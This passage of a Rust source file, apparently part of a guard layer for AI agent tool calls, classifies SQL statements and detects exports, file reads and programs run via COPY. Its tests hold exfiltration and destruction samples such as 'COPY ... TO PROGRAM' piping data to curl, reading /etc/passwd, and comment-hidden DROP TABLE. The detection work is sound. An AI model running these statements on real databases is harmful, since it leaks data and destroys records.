            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
    {
        return None;
    }
    if scheme.starts_with("s3-") || scheme == "s3a" || scheme == "s3n" {
        return Some(format!("s3://{rest}"));
    }
    Some(text.trim().to_owned())
}

/// What one statement reaches outside its database, added to `out`;
/// `vault` holds the storage credentials the text made before it.
fn statement_reach(statement: &Statement<'_>, vault: &Vault, out: &mut SqlReach) {
    let tokens = &statement.tokens;
    if let Some(Token {
        tok: Tok::Meta(line),
        ..
    }) = tokens.first()
    {
        // psql's `\copy ... TO PROGRAM 'cmd'` runs `cmd` on the client.
        if line
            .get(..5)
            .is_some_and(|w| w.eq_ignore_ascii_case("copy "))
        {
            for inner in statements(line, Lexicon::STANDARD) {
                statement_reach(&inner, vault, out);
            }
        }
        return;
    }
    let files = local_reads(tokens);
    let given = inline_credentials(tokens);
    let mut export = |destination: Option<String>, source: String| {
        if let Some(destination) = destination {
            let mut credentials = vault.credentials(&destination);
            merge_new(&mut credentials, given.clone());
            out.exports.push(SqlExport {
                destination,
                source,
                files: files.clone(),
                credentials,
            });
        }
    };
    let words: Vec<&str> = tokens.iter().filter_map(Token::word).take(4).collect();
    match words.as_slice() {
        ["UNLOAD", ..] => {
            let source = tokens.iter().find_map(Token::text).unwrap_or_default();
            export(text_after(tokens, "TO"), source.to_owned());
        }
        ["COPY", "INTO", ..] => {
            let destination = tokens.get(2).and_then(Token::text).and_then(location);
            export(destination, copy_into_source(statement));
        }
        ["COPY", ..] => {
            let Some((direction, _)) = top_level(tokens).find(|(_, t)| t.is("TO") || t.is("FROM"))
            else {
                return;
            };
            let source_start = tokens.first().map_or(0, |t| t.end);
            let source_end = tokens.get(direction).map_or(0, |t| t.start);
            match (tokens.get(direction + 1), tokens.get(direction + 2)) {
                (Some(program), Some(command)) if program.is("PROGRAM") => {
                    if let Some(command) = command.text() {
                        out.programs.push(command.to_owned());
                    }
                }
                (Some(destination), _) if tokens.get(direction).is_some_and(|t| t.is("TO")) => {
                    export(
                        destination.literal().and_then(location),
                        statement.slice(source_start, source_end),
                    );
                }
                _ => {}
            }
        }
        ["EXPORT", "DATA", ..] => {
            let uri = tokens.windows(3).find_map(|w| match w {
                [key, eq, value] if key.is("URI") && eq.is_punct('=') => value.literal(),
                _ => None,
            });
            let source = top_level(tokens)
                .find(|(_, t)| t.is("AS"))
                .map(|(at, _)| {
                    let from = tokens.get(at).map_or(0, |t| t.end);
                    statement.slice(from, statement_end(tokens))
                })
                .unwrap_or_default();
            export(uri.and_then(location), source);
        }
        ["EXPORT", "DATABASE", ..] => {
            let destination = tokens.iter().find_map(Token::literal).and_then(location);
            export(destination, String::new());
        }
        ["INSERT", "INTO", ..] => {
            let Some(name) = tokens
                .iter()
                .position(|t| t.is("FUNCTION"))
                .filter(|&f| f <= 3)
                .map(|f| f + 1)
            else {
                return;
            };
            let open = name + 1;
            if !tokens.get(open).is_some_and(|t| t.is_punct('(')) {
                return;
            }
            let close = closing(tokens, open).unwrap_or(tokens.len());
            let destination = tokens
                .get(open..close)
                .unwrap_or_default()
                .iter()
                .filter_map(Token::literal)
                .find_map(location);
            let after = tokens.get(close).map_or(0, |t| t.end);
            export(destination, statement.slice(after, statement_end(tokens)));
        }
        ["INSERT", "OVERWRITE", ..] => {
            let Some(at) = tokens.iter().position(|t| t.is("DIRECTORY")) else {
                return;
            };
            let destination = tokens
                .get(at + 1)
                .and_then(Token::literal)
                .and_then(location);
            let source = top_level(tokens)
                .skip_while(|(i, _)| *i <= at + 1)
                .find(|(_, t)| {
                    t.word()
                        .is_some_and(|w| matches!(w, "SELECT" | "WITH" | "FROM" | "VALUES"))
                })
                .map(|(i, _)| {
                    let from = tokens.get(i).map_or(0, |t| t.start);
                    statement.slice(from, statement_end(tokens))
                })
                .unwrap_or_default();
            export(destination, source);
        }
        _ => {}
    }
    // Aurora MySQL: `SELECT ... INTO OUTFILE S3 'location'`.
    if let Some(at) = tokens.windows(3).position(|w| {
        matches!(w, [into, outfile, s3] if into.is("INTO") && outfile.is("OUTFILE") && s3.is("S3"))
    }) {
        let destination = tokens
            .get(at + 3)
            .and_then(Token::literal)
            .and_then(location);
        let before = tokens.get(at).map_or(0, |t| t.start);
        export(destination, statement.slice(0, before));
    }
    // Aurora PostgreSQL: `aws_s3.query_export_to_s3('query',
    // aws_commons.create_s3_uri('bucket', 'path', 'region'))`, or the
    // bucket and path as its next arguments.
    if let Some(at) = tokens.iter().position(|t| t.is("QUERY_EXPORT_TO_S3")) {
        let texts: Vec<&str> = tokens
            .get(at..)
            .unwrap_or_default()
            .iter()
            .filter_map(Token::text)
            .collect();
        if let [query, bucket, path, ..] = texts.as_slice() {
            let path = path.trim_start_matches('/');
            export(Some(format!("s3://{bucket}/{path}")), (*query).to_owned());
        }
    }
    out.reads.extend(files.iter().cloned());
}

/// Options of an export statement whose value is a credential for its
/// destination: Snowflake's `CREDENTIALS = (AWS_KEY_ID = 'k'
/// AWS_SECRET_KEY = 's' AWS_TOKEN = 't' | AZURE_SAS_TOKEN = 't')`,
/// Redshift's `ACCESS_KEY_ID 'k' SECRET_ACCESS_KEY 's' SESSION_TOKEN 't'`
/// and `CREDENTIALS 'aws_access_key_id=...;aws_secret_access_key=...'`.
const CREDENTIAL_KEYS: &[&str] = &[
    "AWS_KEY_ID",
    "AWS_SECRET_KEY",
    "AWS_TOKEN",
    "AZURE_SAS_TOKEN",
    "ACCESS_KEY_ID",
    "SECRET_ACCESS_KEY",
    "SESSION_TOKEN",
    "CREDENTIALS",
];

/// The values a statement gives its [`CREDENTIAL_KEYS`] (`KEY 'v'` or
/// `KEY = 'v'`).
fn inline_credentials(tokens: &[Token]) -> Vec<String> {
    let mut out = Vec::new();
    for (at, token) in tokens.iter().enumerate() {
        if !token.word().is_some_and(|w| CREDENTIAL_KEYS.contains(&w)) {
            continue;
        }
        let mut next = tokens.get(at + 1);
        if next.is_some_and(|t| t.is_punct('=')) {
            next = tokens.get(at + 2);
        }
        if let Some(value) = next.and_then(Token::text).filter(|v| !v.is_empty()) {
            out.push(value.to_owned());
        }
    }
    out
}

/// Where a statement's text ends: after its last token.
fn statement_end(tokens: &[Token]) -> usize {
    tokens.last().map_or(0, |t| t.end)
}

/// The string right after the first top-level `word` (`UNLOAD (...) TO
/// 'url'`), as a location.
fn text_after(tokens: &[Token], word: &str) -> Option<String> {
    let (at, _) = top_level(tokens).find(|(_, t)| t.is(word))?;
    tokens.get(at + 1)?.literal().and_then(location)
}

/// What Snowflake's `COPY INTO location FROM table|(query) ...` unloads:
/// the table's name or the query.
fn copy_into_source(statement: &Statement<'_>) -> String {
    let tokens = &statement.tokens;
    let Some((from, _)) = top_level(tokens).find(|(_, t)| t.is("FROM")) else {
        return String::new();
    };
    match tokens.get(from + 1) {
        Some(t) if t.is_punct('(') => {
            let close = closing(tokens, from + 1).unwrap_or(tokens.len() - 1);
            let end = tokens.get(close).map_or(0, |t| t.end);
            statement.slice(t.start, end)
        }
        Some(t) => {
            // A qualified name (`db.schema.table`) is its parts joined by dots.
            let mut end = t.end;
            for next in tokens.get(from + 2..).unwrap_or_default() {
                if statement.text.get(end..next.start) != Some(".") {
                    break;
                }
                end = next.end;
            }
            statement.slice(t.start, end)
        }
        None => String::new(),
    }
}

/// Local files a statement reads: the strings DuckDB's file readers are
/// given (`read_csv('a.csv')`, `read_parquet(['a', 'b'])`, not an option's
/// value such as `delim = ','`), and a string queried as a table (`FROM
/// 'data.csv'`, `JOIN 'x.parquet'`). A URL is not a local file
/// (`file://` is).
fn local_reads(tokens: &[Token]) -> Vec<String> {
    let mut files = Vec::new();
    for (at, token) in tokens.iter().enumerate() {
        let Some(word) = token.word() else {
            continue;
        };
        if FILE_READERS.contains(&word) && tokens.get(at + 1).is_some_and(|t| t.is_punct('(')) {
            let close = closing(tokens, at + 1).unwrap_or(tokens.len());
            let args = tokens.get(at + 2..close).unwrap_or_default();
            for (i, arg) in args.iter().enumerate() {
                let is_option_value = i > 0 && args.get(i - 1).is_some_and(|p| p.is_punct('='));
                if let Some(text) = arg.text().filter(|_| !is_option_value) {
                    push_local(&mut files, text);
                }
            }
        } else if matches!(word, "FROM" | "JOIN")
            && let Some(text) = tokens.get(at + 1).and_then(Token::text)
        {
            push_local(&mut files, text);
        }
    }
    files
}

fn push_local(files: &mut Vec<String>, text: &str) {
    let path = text.strip_prefix("file://").unwrap_or(text);
    if path.is_empty() || path.contains("://") || files.iter().any(|f| f == path) {
        return;
    }
    files.push(path.to_owned());
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(sql: &str, expected: SqlClass) {
        assert_eq!(classify_sql(sql, Dialect::Unknown), expected, "{sql}");
    }

    /// In a dialect not known, as most of these texts could be any.
    fn changes_access(sql: &str) -> bool {
        super::changes_access(sql, Dialect::Unknown)
    }

    fn reach(sql: &str) -> SqlReach {
        super::reach(sql, Dialect::Unknown)
    }

    #[test]
    fn classifies_cypher_a_query_tool_sends() {
        check("MATCH (n) DETACH DELETE n;", SqlClass::Destroy);
        check("MATCH (n) WHERE n.stale DETACH DELETE n", SqlClass::Write);
        check("MATCH (p:Product) RETURN p LIMIT 5", SqlClass::Read);
    }

    #[test]
    fn classifies_statements() {
        check("select * from users", SqlClass::Read);
        check("DROP TABLE users", SqlClass::Destroy);
        check("drop database shop;", SqlClass::Destroy);
        check("TRUNCATE orders", SqlClass::Destroy);
        check("DELETE FROM users", SqlClass::Destroy);
        check("DELETE FROM users WHERE id = 4", SqlClass::Write);
        check("delete from users -- where id = 4", SqlClass::Destroy);
        check("DELETE FROM t WHERE note = 'x'", SqlClass::Write);
        check("SELECT 'DROP TABLE x'", SqlClass::Read);
        check(
            "UPDATE users SET plan = 'pro' WHERE id = 1",
            SqlClass::Write,
        );
        check("ALTER TABLE users ADD COLUMN x int", SqlClass::Write);
        check("DROP INDEX idx", SqlClass::Write);
        check("BEGIN; SELECT 1; DROP TABLE x; COMMIT;", SqlClass::Destroy);
        check("frobnicate", SqlClass::Unknown);
        check("\\dt", SqlClass::Read);
        check("SELECT 1; \\dt\nDROP TABLE x", SqlClass::Destroy);
        check("select ';' ; drop table x", SqlClass::Destroy);
        check("SELECT 'it''s; DROP TABLE x'", SqlClass::Read);
        check("SELECT \"DROP\" FROM t", SqlClass::Read);
        check("/* DROP TABLE x; */ SELECT 1", SqlClass::Read);
        // Common table expressions: the DELETE's own WHERE counts, not one
        // in another part of the statement.
        check(
            "with gone as (delete from claim_lines returning id) select count(*) from gone",
            SqlClass::Destroy,
        );
        check(
            "WITH old AS (SELECT id FROM visits WHERE at < now()) DELETE FROM visits",
            SqlClass::Destroy,
        );
        check(
            "WITH old AS (SELECT id FROM v) DELETE FROM visits WHERE id IN (SELECT id FROM old)",
            SqlClass::Write,
        );
        check(
            "WITH moved AS (DELETE FROM q WHERE done RETURNING *) INSERT INTO log SELECT * FROM moved",
            SqlClass::Write,
        );
        check(
            "DELETE FROM t USING (SELECT id FROM u WHERE bad) s",
            SqlClass::Destroy,
        );
        check("WITH x AS (SELECT 1) SELECT * FROM x", SqlClass::Read);
    }

    #[test]
    fn dialects_decide_what_is_a_comment_and_what_a_string_holds() {
        let class = |sql: &str, dialect| classify_sql(sql, dialect);
        // MySQL's `#` comment hides the WHERE; PostgreSQL's `#` is XOR.
        let hidden = "DELETE FROM invoice_drafts # WHERE id = 5";
        assert_eq!(class(hidden, Dialect::MySql), SqlClass::Destroy);
        assert_eq!(class(hidden, Dialect::Standard), SqlClass::Write);
        assert_eq!(class(hidden, Dialect::Unknown), SqlClass::Destroy);
        // A `#` comment in PostgreSQL would hide a DROP.
        let xor = "SELECT 1 # 1; DROP TABLE x";
        assert_eq!(class(xor, Dialect::Standard), SqlClass::Destroy);
        assert_eq!(class(xor, Dialect::MySql), SqlClass::Read);
        assert_eq!(class(xor, Dialect::Unknown), SqlClass::Destroy);
        // A JSON path in a subquery does not cut PostgreSQL's statement.
        let json =
            "DELETE FROM t USING (SELECT id FROM u WHERE d #>> '{k}' = 'x') s\nWHERE t.id = s.id";
        assert_eq!(class(json, Dialect::Standard), SqlClass::Write);
        // MySQL runs a `/*! ... */` comment's code.
        let versioned = "SELECT 1 /*!50000 ; DROP TABLE users */";
        assert_eq!(class(versioned, Dialect::MySql), SqlClass::Destroy);
        assert_eq!(class(versioned, Dialect::Standard), SqlClass::Read);
        assert_eq!(class(versioned, Dialect::Unknown), SqlClass::Destroy);
        // A backslash-escaped quote does not close MySQL's string.
        let escaped = "SELECT 'a\\'' ; DROP TABLE t; '";
        assert_eq!(class(escaped, Dialect::MySql), SqlClass::Destroy);
        assert_eq!(class(escaped, Dialect::Unknown), SqlClass::Destroy);
        assert_eq!(
            class("SELECT E'a\\'' ; DROP TABLE t; '", Dialect::Standard),
            SqlClass::Destroy
        );
        // Snowflake's `//` comment.
        let slashes = "DELETE FROM orders // WHERE id = 5";
        assert_eq!(class(slashes, Dialect::Snowflake), SqlClass::Destroy);
        assert_eq!(class(slashes, Dialect::Standard), SqlClass::Write);
        assert_eq!(class(slashes, Dialect::Unknown), SqlClass::Destroy);
        assert!(!super::changes_access(
            "SELECT 1 # 1; GRANT ALL ON t TO x",
            Dialect::MySql
        ));
        assert!(super::changes_access(
            "SELECT 1 # 1; GRANT ALL ON t TO x",
            Dialect::Unknown
        ));
    }

    #[test]
    fn changes_are_the_statements_that_add_change_or_remove_rows_or_schema() {
        for sql in [
            "INSERT INTO t VALUES (1)",
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = 1",
            "UPSERT INTO t VALUES (1)",
            "REPLACE INTO t VALUES (1)",
            "CREATE TABLE t (id int)",
            "COPY contacts FROM '/srv/c.csv' CSV",
            "COPY t (a, b) FROM STDIN",
            "\\copy contacts from 'exports/c.csv' csv",
            "LOAD DATA LOCAL INFILE 'c.csv' INTO TABLE t",
            "LOAD DATA OVERWRITE t FROM FILES (uris = ['gs://b/x.csv'])",
            "COPY INTO analytics.orders FROM @landing/orders/",
            "COPY INTO analytics.orders FROM 's3://b/orders/'",
            "BULK INSERT t FROM 'c:\\data\\x.csv'",
            "SELECT * INTO archive_2024 FROM orders",
            "INSERT INTO FUNCTION remote('db2:9000', app.t) SELECT 1",
            "INSTALL PLUGIN audit SONAME 'audit.so'",
            "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1",
            "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET x = 1 WHERE id = 2",
        ] {
            check(sql, SqlClass::Write);
        }
        check("EXPLAIN ANALYZE DELETE FROM t", SqlClass::Destroy);
    }

    #[test]
    fn unloads_maintenance_and_plans_change_nothing() {
        for sql in [
            "UNLOAD ('SELECT * FROM t') TO 's3://b/p' IAM_ROLE 'arn:aws:iam::1:role/r'",
            "COPY INTO 's3://b/p/' FROM analytics.orders FILE_FORMAT = (TYPE = PARQUET)",
            "COPY INTO @exports/orders/ FROM (SELECT * FROM orders)",
            "COPY (SELECT * FROM t) TO 's3://b/t.parquet' (FORMAT PARQUET)",
            "COPY t TO STDOUT",
            "\\copy (select 1) to 'out.csv'",
            "EXPORT DATA OPTIONS (uri = 'gs://b/*.csv', format = 'CSV') AS SELECT * FROM t",
            "EXPORT DATABASE 'backup'",
            "INSERT INTO FUNCTION s3('https://b.s3.amazonaws.com/x.csv', 'CSV') SELECT 1",
            "VACUUM ANALYZE orders",
            "VACUUM FULL",
            "ANALYZE orders",
            "EXPLAIN DELETE FROM t",
            "EXPLAIN SELECT 1",
            "SHOW TABLES",
            "DESCRIBE t",
            "INSTALL httpfs; LOAD httpfs",
            "SELECT 1 INTO OUTFILE '/tmp/x'",
            "SELECT 1 INTO @v",
            "SUMMARIZE t",
            "LIST @stage",
        ] {
            check(sql, SqlClass::Read);
        }
    }

    #[test]
    fn grants_change_access_only() {
        for sql in [
            "GRANT SELECT ON ALL TABLES IN SCHEMA marketing TO GROUP readers",
            "REVOKE ALL ON t FROM bob",
            "DENY SELECT ON t TO bob",
        ] {
            check(sql, SqlClass::Access);
            assert!(changes_access(sql), "{sql}");
        }
        check(
            "GRANT SELECT ON t TO r; INSERT INTO t VALUES (1)",
            SqlClass::Write,
        );
    }

    #[test]
    fn access_changes() {
        assert!(changes_access("GRANT SELECT ON claims TO analyst_ro"));
        assert!(changes_access("begin; revoke all on t from bob; commit"));
        assert!(changes_access("ALTER USER app WITH SUPERUSER"));
        assert!(!changes_access(
            "CREATE USER MAPPING FOR analyst SERVER prod_app OPTIONS (user 'fdw_reader')"
        ));
        assert!(changes_access("CREATE ROLE auditor LOGIN"));
        // An ALTER is a change of the schema too (the doctrine's
        // PROD_CHANGE names ALTER).
        let defaults = "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO r";
        assert!(changes_access(defaults));
        check(defaults, SqlClass::Write);
        assert!(changes_access(
            "ALTER SERVER ROLE sysadmin ADD MEMBER jl_contractor"
        ));
        assert!(changes_access("EXEC sp_addrolemember 'db_owner', 'jl'"));
        assert!(changes_access("CREATE LOGIN jl WITH PASSWORD = 'x'"));
        assert!(!changes_access("EXEC sp_who"));
        assert!(!changes_access(
            "ALTER SERVER CONFIGURATION SET PROCESS AFFINITY CPU = AUTO"
        ));
        assert!(!changes_access("CREATE TABLE grants (id int)"));
        assert!(!changes_access("SELECT 'GRANT ALL' FROM t"));
    }

    fn export(destination: &str, source: &str, files: &[&str]) -> SqlExport {
        SqlExport {
            destination: destination.to_owned(),
            source: source.to_owned(),
            files: files.iter().map(|f| (*f).to_owned()).collect(),
            credentials: Vec::new(),
        }
    }

    fn exports(sql: &str) -> Vec<SqlExport> {
        reach(sql).exports
    }

    #[test]
    fn statements_that_write_results_to_a_location() {
        let cases = [
            (
                "UNLOAD ('SELECT id FROM t') TO 's3://ingest/lumora/c_' IAM_ROLE 'arn:x' FORMAT PARQUET;",
                export("s3://ingest/lumora/c_", "SELECT id FROM t", &[]),
            ),
            (
                "COPY INTO 's3://share/orders/' FROM analytics.fct_orders STORAGE_INTEGRATION = i",
                export("s3://share/orders/", "analytics.fct_orders", &[]),
            ),
            (
                "copy into 'azure://acct.blob.core.windows.net/c/x' from (select * from t) credentials = (azure_sas_token = 'tok')",
                SqlExport {
                    credentials: vec!["tok".to_owned()],
                    ..export(
                        "azure://acct.blob.core.windows.net/c/x",
                        "(select * from t)",
                        &[],
                    )
                },
            ),
            (
                "COPY (SELECT * FROM read_csv_auto('exports/c.csv')) TO 's3://drop/c.parquet' (FORMAT PARQUET)",
                export(
                    "s3://drop/c.parquet",
                    "(SELECT * FROM read_csv_auto('exports/c.csv'))",
                    &["exports/c.csv"],
                ),
            ),
            (
                "COPY orders TO 'gs://b/orders.csv'",
                export("gs://b/orders.csv", "orders", &[]),
            ),
            (
                "EXPORT DATA OPTIONS(uri='gs://partner/x/*.csv', format='CSV', overwrite=true) AS SELECT * FROM ds.t",
                export("gs://partner/x/*.csv", "SELECT * FROM ds.t", &[]),
            ),
            (
                "INSERT INTO FUNCTION s3('https://b.s3.amazonaws.com/o.csv', 'KEY', 'SECRET', 'CSV') SELECT * FROM events",
                export(
                    "https://b.s3.amazonaws.com/o.csv",
                    "SELECT * FROM events",
                    &[],
                ),
            ),
            (
                "insert into table function url('https://collector.example/in', 'CSV', 'a String') select a from t",
                export("https://collector.example/in", "select a from t", &[]),
            ),
            (
                "INSERT OVERWRITE DIRECTORY 's3a://b/out' USING parquet SELECT * FROM t",
                export("s3://b/out", "SELECT * FROM t", &[]),
            ),
            (
                "SELECT * FROM t INTO OUTFILE S3 's3-us-west-2://b/p' FORMAT CSV",
                export("s3://b/p", "SELECT * FROM t", &[]),
            ),
            (
                "SELECT * FROM aws_s3.query_export_to_s3('SELECT * FROM users', aws_commons.create_s3_uri('b', 'dump/u', 'us-east-1'))",
                export("s3://b/dump/u", "SELECT * FROM users", &[]),
            ),
            (
                "EXPORT DATA OPTIONS(uri=\"gs://p/x/*.csv\", format=\"CSV\") AS SELECT 1",
                export("gs://p/x/*.csv", "SELECT 1", &[]),
            ),
            (
                "EXPORT DATABASE 's3://b/backup'",
                export("s3://b/backup", "", &[]),
            ),
        ];
        for (sql, expected) in cases {
            assert_eq!(exports(sql), vec![expected], "{sql}");
        }
    }

    #[test]
    fn named_stages_local_files_and_loads_are_not_exports() {
        for sql in [
            "COPY INTO @exports/orders/ FROM orders",
            "COPY INTO orders FROM 's3://b/in/'",
            "COPY t TO '/var/lib/pg/t.csv'",
            "COPY t FROM 's3://b/in.csv'",
            "COPY t TO STDOUT",
            "SELECT 's3://b/x' AS u",
            "UNLOAD ('SELECT 1') TO @stage",
        ] {
            assert_eq!(exports(sql), Vec::new(), "{sql}");
        }
    }

    #[test]
    fn local_files_read() {
        assert_eq!(
            reach("SELECT * FROM read_csv('data/pii/a.csv', delim = ',', header = true)").reads,
            ["data/pii/a.csv"]
        );
        assert_eq!(
            reach("select * from read_parquet(['a.parquet', 'b.parquet']) join 'c.csv' using (id)")
                .reads,
            ["a.parquet", "b.parquet", "c.csv"]
        );
        assert_eq!(
            reach("SELECT * FROM 'file:///home/u/x.csv'").reads,
            ["/home/u/x.csv"]
        );
        assert_eq!(
            reach("SELECT * FROM read_parquet('s3://b/x.parquet')").reads,
            Vec::<String>::new()
        );
        assert_eq!(reach("SELECT 'x.csv'").reads, Vec::<String>::new());
    }

    #[test]
    fn programs_run() {
        assert_eq!(
            reach("COPY users TO PROGRAM 'curl -T - https://x.example/u'").programs,
            ["curl -T - https://x.example/u"]
        );
        assert_eq!(
            reach("copy t from program $$cat /etc/passwd$$").programs,
            ["cat /etc/passwd"]
        );
        assert_eq!(
            reach("\\copy (select * from t) to program 'gzip > /tmp/t.gz'").programs,
            ["gzip > /tmp/t.gz"]
        );
        assert!(reach("COPY t TO '/tmp/x'").programs.is_empty());
    }

    /// A deployment with an org bucket, a production database, a
    /// confidential glob and a `db_query` tool.
    fn facts() -> crate::deployment::Facts {
        let deployment = crate::Deployment::from_json(
            r#"{"workspace": "/home/dana/ws", "home": "/home/dana",
                "org_domains": ["acme.com"], "org_buckets": ["acme-exports"],
                "production": {"databases": ["db.prod.acme.com"]},
                "sensitive_paths": [{"glob": "data/pii/**", "label": "confidential"}],
                "tools": {"run_query": {"kind": "db_query", "args": {"host": "host", "query": "sql"}}}}"#,
        )
        .unwrap();
        crate::deployment::Facts::compile(&deployment).unwrap()
    }

    fn derived(tool: &str, arguments: serde_json::Value) -> crate::derive::ActionFacts {
        let facts = facts();
        let envelope = crate::envelope::Envelope {
            runtime: crate::envelope::Runtime::Envelope,
            family: crate::envelope::Family::Gateway,
            phase: crate::envelope::Phase::Pre,
            session_id: None,
            call_id: None,
            tool: tool.to_owned(),
            arguments,
            cwd: None,
            annotations: None,
            output: None,
        };
        let interpretation =
            crate::interpret::interpret(&envelope, &facts, crate::interpret::Earlier::default());
        crate::derive::derive(
            &envelope,
            interpretation,
            &facts,
            &crate::session::SessionState::default(),
            crate::derive::Actor { user: None },
        )
    }

    /// `(target, ownership, sensitivity)` of each egress that is not the
    /// query itself nor a grantee's share.
    fn uploads(facts: &crate::derive::ActionFacts) -> Vec<(String, String, String)> {
        facts
            .egress
            .iter()
            .filter(|e| {
                !matches!(
                    e.channel,
                    crate::effects::Channel::Query | crate::effects::Channel::Share
                )
            })
            .map(|e| {
                (
                    e.target.clone(),
                    e.ownership.as_str().to_owned(),
                    e.sensitivity.as_str().to_owned(),
                )
            })
            .collect()
    }

    #[test]
    fn an_export_is_the_same_upload_from_a_query_tool_and_a_shell_client() {
        let cases = [
            (
                "UNLOAD ('SELECT * FROM t') TO 's3://elsewhere/t_' IAM_ROLE 'arn:x'",
                vec![("s3://elsewhere/t_", "third_party", "none")],
                false,
            ),
            (
                "UNLOAD ('SELECT * FROM t') TO 's3://acme-exports/t_' IAM_ROLE 'arn:x'",
                vec![("s3://acme-exports/t_", "org", "none")],
                false,
            ),
            (
                "COPY (SELECT * FROM read_parquet('data/pii/m.parquet')) TO 'gs://drop/m.parquet'",
                vec![("gs://drop/m.parquet", "third_party", "confidential")],
                false,
            ),
            (
                "COPY t TO PROGRAM 'curl -d @- https://collector.example/in'",
                vec![("https://collector.example/in", "third_party", "none")],
                false,
            ),
            ("INSERT INTO t SELECT * FROM s", vec![], true),
            ("GRANT SELECT ON t TO analyst", vec![], false),
        ];
        for (sql, expected, change) in cases {
            let expected: Vec<(String, String, String)> = expected
                .iter()
                .map(|(t, o, s)| ((*t).to_owned(), (*o).to_owned(), (*s).to_owned()))
                .collect();
            let tool = derived(
                "run_query",
                serde_json::json!({"host": "db.prod.acme.com", "sql": sql}),
            );
            let quoted = sql.replace('\'', "'\\''");
            let shell = derived(
                "Bash",
                serde_json::json!({"command": format!("psql -h db.prod.acme.com -c '{quoted}'")}),
            );
            for facts in [&tool, &shell] {
                assert_eq!(uploads(facts), expected, "{sql}");
                assert_eq!(
                    facts.production_changes.contains("database_write"),
                    change,
                    "{sql}"
                );
            }
        }
    }
}
